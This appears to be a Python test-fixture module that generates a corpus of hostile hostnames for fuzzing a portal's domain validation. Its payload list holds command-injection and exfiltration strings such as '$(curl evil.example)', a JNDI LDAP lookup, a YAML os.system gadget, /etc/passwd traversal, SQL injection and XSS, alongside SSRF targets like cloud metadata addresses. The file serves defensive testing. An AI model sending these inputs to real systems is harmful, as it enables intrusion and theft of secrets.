"""A corpus of hosts that somebody might type to get around the portal, or to break it.

`hostile_hosts()` gives the same list in every run; `TRUSTED` are harmless ones in their canonical
form. Used against the domain function here and through HTTP elsewhere.
"""

import ipaddress
from collections.abc import Iterator
from itertools import product

TRUSTED = (
    "developers.google.com",
    "developer.yahoo.com",
    "archive.ubuntu.com",
    "api.stripe.com",
    "xn--bcher-kva.example.com",
    "r3---sn-4g5e6nl7.googlevideo.com",
    "a.co.uk",
    "1.example.com",
)

_ADDRESSES = (
    "169.254.169.254",
    "127.0.0.1",
    "10.0.0.1",
    "100.100.100.200",
    "168.63.129.16",
    "192.168.1.1",
    "172.16.0.1",
    "0.0.0.0",
    "255.255.255.255",
    "8.8.8.8",
    "203.0.113.7",
)
_FULL_WIDTH = str.maketrans("0123456789.", "０１２３４５６７８９．")
_BOLD = str.maketrans("0123456789", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗")
_CIRCLED = str.maketrans("123456789", "①②③④⑤⑥⑦⑧⑨")
_ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")

_CONFUSABLE = {
    "a": "аɑаα",
    "c": "сϲⅽ",
    "e": "еҽ℮",
    "g": "ɡԍ",
    "i": "іıɩ",
    "l": "ӏⅼ|",
    "o": "оοօ",
    "p": "рρ",
    "s": "ѕꜱ",
    "y": "уүγ",
    "d": "ԁⅾ",
    "h": "һհ",
    "m": "ⅿм",
    "n": "ոп",
    "u": "υս",
    "t": "тτ",
}
_BRANDS = ("google.com", "apple.com", "paypal.com", "github.com", "microsoft.com", "example.com")

_INSIDE = (
    "localhost",
    "kubernetes",
    "kubernetes.default",
    "kubernetes.default.svc",
    "kubernetes.default.svc.cluster.local",
    "istiod.istio-system.svc",
    "istiod.istio-system",
    "api.payments",
    "api.payments.svc",
    "api.payments.svc.cluster.local",
    "printer.local",
    "vault.internal",
    "metadata.google.internal",
    "instance-data.ec2.internal",
    "1.0.0.127.in-addr.arpa",
    "hidden.onion",
    "127.0.0.1.nip.io",
    "10-0-0-1.sslip.io",
    "169-254-169-254.sslip.io",
    "localtest.me",
    "com",
    "co.uk",
    "example.invalid",
)
_CHARACTERS = [chr(code) for code in range(0x21)] + list("!\"#$%&'()*+,/:;<=>?@[\\]^_`{|}~\x7f")
_UNSEEN = [
    chr(code)
    for code in (
        *range(0x80, 0xA1),
        0xAD,
        0x034F,
        0x061C,
        0x115F,
        0x1680,
        0x180E,
        *range(0x2000, 0x2010),
        *range(0x2028, 0x2030),
        *range(0x205F, 0x2070),
        0x3000,
        0x3164,
        0xFE0F,
        0xFEFF,
        0xFFA0,
        *range(0xFFF9, 0xFFFE),
        0xD800,
        0xDFFF,
        0xE000,
        0xE0041,
        0x10FFFF,
    )
]
_PAYLOADS = (
    "example.com\nhosts: ['*']",
    'example.com"\n  exportTo: ["*"]',
    "example.com\r\nX-Injected: 1",
    "example.com\n---\napiVersion: v1\nkind: Secret",
    "{{ 7*7 }}.example.com",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "$(curl evil.example).example.com",
    "`id`.example.com",
    "<script>alert(1)</script>.example.com",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE egress_grant; --",
    "example.com' OR '1'='1",
    '{"host": "example.com"}',
    "[example.com]",
    "!!python/object/apply:os.system ['id']",
    "&a [*a,*a]",
    "*a",
    "~",
    "null",
    "true",
    "-",
    "- example.com",
    "? example.com",
    "%00",
    "%2e%2e%2f",
    "../../etc/passwd",
    "..\\..\\windows",
    "example.com%00.evil.example",
    "example.com%0a.evil.example",
    "example.com#.evil.example",
    "example.com?.evil.example",
    "example.com\\.evil.example",
    "example.com;evil.example",
    "example.com,evil.example",
    "example.com evil.example",
    "example.com|evil.example",
    "user@example.com",
    "user:secret@example.com",
    "example.com@evil.example",
    "http://example.com",
    "HTTPS://EXAMPLE.COM/",
    "//example.com",
    "http:example.com",
    "file:///etc/passwd",
    "gopher://example.com:70/_x",
    "jar:http://example.com!/x",
    "example.com:443",
    "example.com:99999",
    "example.com:",
    ":443",
    "example.com/path",
    "example.com/24",
    "[::1]:80",
    "",
    ".",
    "..",
    "...",
    ".com",
    "com.",
    "。",
    "example。com。evil。",
)
_PUNYCODE = (
    "xn--",
    "xn--.com",
    "xn--a.com",
    "xn--a",
    "xn---.com",
    "xn--0.com",
    "xn--example-.com",
    "xn--example.com",
    "xn--xn--bcher-kva.com",
    "xn--ls8h.la",
    "xn--80ak6aa92e.com",
    "xn--bcher-kva-.com",
    "xn--BCHER-KVA.com",
    "Xn--bCher-kVa.com",
    "xn--fa-hia.de",
    "xn--strae-oqa.de",
    "xn--99999999999999.com",
    "xn--zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz.com",
    "xn--www-google-com-.com",
    "xn--google-.com",
    "xn--1ug.com",
    "xn--a-ecp.ru",
    "xn--u-ccb.com",
    "xn--iny-zx5a.com",
    "xn--\u00fc.com",
    "\u2603.net",
    "💩.la",
    "ex\u0301ample.com",
    "\u0301example.com",
    "faß.de",
    "FASS.de",
    "ﬀ.com",
    "㏂.com",
    "℡.com",
    "ⅷ.com",
    "a\u200cb.com",
    "a\u200db.com",
    "नी\u200cख.com",
    "ab--cd.com",
    "ab--cd.ü.com",
    "-a.com",
    "a-.com",
    "a.-b.com",
    "a.b-.com",
    "א1.com",
    "1א.com",
    "אa.com",
    "٠١.com",
    "ʼn.com",
)


def hostile_hosts() -> list[str]:
    """Return the whole corpus, at least 2,000 different texts."""
    texts = [
        *_addresses(),
        *_ipv6(),
        *_homographs(),
        *_injected(),
        *_spellings(),
        *_long(),
        *_PAYLOADS,
        *_PUNYCODE,
    ]
    return list(dict.fromkeys(texts))


def _addresses() -> Iterator[str]:
    for text in _ADDRESSES:
        parts = [int(part) for part in text.split(".")]
        number = int(ipaddress.IPv4Address(text))
        yield from (
            text,
            f"{text}.",
            f"{text}:80",
            f"http://{text}/",
            f"[{text}]",
            f"{text}/32",
            f" {text}",
        )
        yield from (text.translate(digits) for digits in (_FULL_WIDTH, _BOLD, _CIRCLED, _ARABIC))
        yield from (text.replace(".", dot) for dot in "。．｡")
        yield from (
            str(number),
            f"0x{number:x}",
            f"0X{number:08X}",
            f"0{number:o}",
            f"00{number:o}",
        )
        yield from (f"{number}.", str(number + 2**32), f"{number}".translate(_FULL_WIDTH))
        forms = [(str(p), f"0x{p:x}", f"0{p:o}", f"0x{p:02x}", f"{p:03d}") for p in parts]
        yield from (".".join(spelled) for spelled in product(*(form[:3] for form in forms)))
        rest2 = parts[2] * 256 + parts[3]
        rest3 = parts[1] * 65536 + rest2
        yield from (
            f"{parts[0]}.{parts[1]}.{rest2}",
            f"{parts[0]}.{rest3}",
            f"{parts[0]}.0x{rest3:x}",
        )
        yield from (
            f"{text}.nip.io",
            f"{text.replace('.', '-')}.sslip.io",
            f"{text}.1",
            f"{text}.0x1",
        )


def _ipv6() -> Iterator[str]:
    plain = ["::", "::1", "fe80::1", "fd00:ec2::254", "2001:db8::1", "ff02::1", "::ffff:0:1"]
    for text in _ADDRESSES:
        plain += [f"::ffff:{text}", f"::{text}", f"64:ff9b::{text}"]
    for text in plain:
        yield from (
            text,
            f"[{text}]",
            f"[{text}]:443",
            f"{text}%eth0",
            f"[{text}%25eth0]",
            text.upper(),
        )
        yield f"{text.replace(':', '-')}.ipv6-literal.net"


def _homographs() -> Iterator[str]:
    for brand in _BRANDS:
        for place, character in enumerate(brand):
            for other in _CONFUSABLE.get(character, ""):
                yield brand[:place] + other + brand[place + 1 :]
        yield "".join(_CONFUSABLE.get(c, c)[0] for c in brand)
        yield brand.replace(".", "．")
        yield "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in brand)


def _injected() -> Iterator[str]:
    for character in _CHARACTERS + _UNSEEN:
        yield from (
            f"{character}example.com",
            f"exam{character}ple.com",
            f"example.com{character}",
            f"example{character}.com",
            f"example.{character}com",
            f"example.com{character}.evil.example",
        )


def _spellings() -> Iterator[str]:
    for host in (*TRUSTED, *_INSIDE, *_BRANDS):
        yield from (
            host.upper(),
            host.title(),
            f"{host}.",
            f"{host}..",
            f".{host}",
            host.swapcase(),
        )
        yield from (
            f"*.{host}",
            f"*{host}",
            f"a.*.{host}",
            f"*-x.{host}",
            f"＊.{host}",
            f"*.*.{host}",
        )
        yield from (
            f"{host}:443",
            f"https://{host}",
            f"u:p@{host}",
            f"{host}/",
            f"{host} ",
            f"\t{host}",
        )
        yield from (host.replace(".", ".."), host.replace(".", "。"), f"_dmarc.{host}", host)


def _long() -> Iterator[str]:
    for letter in ("a", "ü", "中", "\u0644", "ﷺ", "💩", "1", "-", ".", "*", "\u200b", "\ud800"):
        for length in (63, 64, 65, 250, 253, 254, 255, 256, 999, 1000, 1001, 10_000):
            yield letter * length
            yield f"{letter * length}.com"
        yield ".".join([letter * 50] * 6)
    yield from (
        "a." * 126 + "com",
        "a." * 127 + "com",
        "xn--" + "a" * 60 + ".com",
        "中." * 126 + "com",
    )
    yield from ("a" * 1_000_000, "a." * 500_000, "ü" * 1_000_000, "\n" * 1_000_000, "1" * 1_000_000)
